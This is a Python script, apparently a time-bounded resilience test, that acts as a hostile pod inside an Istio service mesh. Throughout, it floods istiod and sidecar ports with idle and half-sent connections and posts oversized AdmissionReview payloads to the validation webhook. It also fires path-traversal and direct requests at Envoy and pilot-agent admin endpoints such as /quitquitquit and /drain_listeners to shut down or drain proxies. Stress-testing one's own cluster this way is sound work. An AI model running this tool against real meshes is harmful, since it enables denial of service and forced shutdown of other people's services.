"""A pod without rights that means harm: idle connections, half requests, huge reviews, garbage. Bounded, and ends by itself.

Runs in a pod as ``python hostile.py SECONDS ISTIOD POD...``; writes a line of JSON each second: what it did.
"""

from __future__ import annotations

import asyncio
import collections
import contextlib
import json
import random
import ssl
import sys
import time

#: So many sockets of each kind at once, and so many bytes of a review.
IDLE, HALF, REVIEW = 300, 200, 1_000_000
PATIENCE_S = 20.0
#: What is tried at a meshed pod: tricks with paths, orders from outside, a body that never comes.
TRICKS = (
    (15090, b"POST /stats/prometheus/../../drain_listeners HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n"),
    (15090, b"GET /stats/prometheus/..%2f..%2fquitquitquit HTTP/1.1\r\nhost: x\r\n\r\n"),
    (15020, b"POST /quitquitquit HTTP/1.1\r\nhost: localhost\r\ncontent-length: 0\r\n\r\n"),
    (15020, b"POST /healthz/ready HTTP/1.1\r\nhost: x\r\ncontent-length: 99999999\r\n\r\n"),
    (15021, b"GET /healthz/ready/../../quitquitquit HTTP/1.1\r\nhost: x\r\n\r\n"),
    (15006, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(4000)),
    (8080, b"GET / HTTP/1.1\r\nhost: x\r\n" + b"a: b\r\n" * 200),
)

done: collections.Counter[str] = collections.Counter()
_ANY = ssl.create_default_context()
_ANY.check_hostname, _ANY.verify_mode = False, ssl.CERT_NONE


async def _idle(host: str, port: int, until: float, tls: ssl.SSLContext | None) -> None:
    """A connection that says nothing, made again when it is closed."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError, TimeoutError, ssl.SSLError):
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port, ssl=tls), PATIENCE_S)
            done[f"idle {port}"] += 1
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(reader.read(), max(0.0, until - time.monotonic()))
            writer.close()
        await asyncio.sleep(random.uniform(0.2, 1.0))


async def _half(host: str, port: int, until: float) -> None:
    """Half a head, and again."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError, TimeoutError):
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), PATIENCE_S)
            writer.write(b"GET /healthz/ready HTTP/1.1\r\nhost: x\r\nx-half:")
            done[f"half {port}"] += 1
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(reader.read(), 5.0)
            writer.close()
        await asyncio.sleep(random.uniform(0.05, 0.3))


async def _once(host: str, port: int, raw: bytes, tls: ssl.SSLContext | None = None) -> bytes:
    reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port, ssl=tls), PATIENCE_S)
    try:
        writer.write(raw)
        await asyncio.wait_for(writer.drain(), PATIENCE_S)
        return await asyncio.wait_for(reader.read(200), PATIENCE_S)
    finally:
        writer.close()


def review(size: int) -> bytes:
    """An AdmissionReview with as many routes, or hosts, as fit."""
    if random.random() < 0.5:
        route = {"match": [{"uri": {"prefix": "/a"}}], "route": [{"destination": {"host": "web"}}]}
        spec = {"hosts": ["web"], "http": [route] * (size // len(json.dumps(route)))}
    else:
        spec = {"hosts": [f"h{at}.example" for at in range(size // 16)]}
    made = {
        "apiVersion": "networking.istio.io/v1", "kind": "VirtualService",
        "metadata": {"name": "huge", "namespace": "hostile"}, "spec": spec,
    }  # fmt: skip
    request = {"uid": "1", "operation": "CREATE", "namespace": "hostile", "object": made}
    return json.dumps(
        {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}
    ).encode()


async def _reviews(host: str, until: float) -> None:
    while time.monotonic() < until:
        body = review(REVIEW)
        head = b"POST /validate HTTP/1.1\r\nhost: istiod\r\ncontent-type: application/json\r\nconnection: close\r\n"
        with contextlib.suppress(OSError, TimeoutError, ssl.SSLError):
            await _once(host, 443, head + f"content-length: {len(body)}\r\n\r\n".encode() + body, _ANY)
            done["review"] += 1
        await asyncio.sleep(random.uniform(0.5, 2.0))


async def _tricks(host: str, until: float) -> None:
    while time.monotonic() < until:
        port, raw = random.choice(TRICKS)
        with contextlib.suppress(OSError, TimeoutError):
            await _once(host, port, raw)
            done[f"trick {port}"] += 1
        await asyncio.sleep(random.uniform(0.05, 0.5))


async def attack(seconds: float, istiod: str, pods: list[str]) -> None:
    """Everything at once until the time is over."""
    until = time.monotonic() + seconds
    async with asyncio.TaskGroup() as tasks:
        for _ in range(IDLE):
            tasks.create_task(_idle(istiod, 15012, until, _ANY))
        for port in (15010, 15014, 443):
            for _ in range(IDLE // 10):
                tasks.create_task(_idle(istiod, port, until, None))
        for at in range(HALF):
            tasks.create_task(_half(pods[at % len(pods)], random.choice([15020, 15021, 15090]), until))
        tasks.create_task(_reviews(istiod, until))
        for pod in pods:
            tasks.create_task(_tricks(pod, until))
        while time.monotonic() < until:
            await asyncio.sleep(1.0)
            print(json.dumps(dict(sorted(done.items()))), flush=True)


if __name__ == "__main__":
    asyncio.run(attack(float(sys.argv[1]), sys.argv[2], sys.argv[3:]))
